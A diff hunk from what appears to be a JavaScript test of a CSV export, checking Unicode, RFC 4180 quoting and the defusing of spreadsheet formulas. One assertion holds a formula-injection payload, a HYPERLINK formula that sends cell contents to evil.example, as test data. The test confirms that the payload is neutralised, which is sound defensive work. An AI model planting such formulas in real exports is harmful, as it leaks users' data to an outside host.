@@ -122,7 +122,7 @@ t.test('export on a log written through the plugin', async (t) => {
     t.equal(byJob(205).jobName, UNICODE_NAME, 'non-ASCII survives as UTF-8')
     t.equal(byJob(201).guardianPhone, "'+15550001111", 'a phone number is not read as a formula')
     t.ok(text.includes('"Gala, ""Riverside""\nHall\r\nEast wing"'), 'the quoted name is written per RFC 4180: doubled quotes inside quotes')
-    t.ok(text.includes(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`), 'the formula name is defused and quoted')
+    t.ok(text.includes('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"'), 'the formula name is defused and quoted')
     for (const record of records) {
       for (const [column, value] of Object.entries(record)) {
         if (/^[=+\-@\t\r]/.test(value)) t.fail(`seq ${record.seq}: ${column} starts with a formula character: ${value}`)
